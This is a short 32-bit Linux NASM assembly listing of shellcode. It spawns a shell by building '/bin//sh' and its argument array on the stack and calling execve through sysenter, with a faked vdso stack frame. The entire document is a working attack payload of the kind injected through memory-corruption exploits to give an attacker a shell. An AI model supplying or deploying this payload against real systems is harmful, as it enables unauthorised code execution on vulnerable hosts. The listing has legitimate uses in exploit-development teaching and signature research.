; Linux, 32 bit: execve("/bin//sh") through sysenter, the stack laid out as the kernel's vdso expects it.
bits 32
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        cdq
        mov al, 11
        push eax                ; where it would return to, and the three words that the vdso pushes
        push ecx
        push edx
        push ebp
        mov ebp, esp
        sysenter
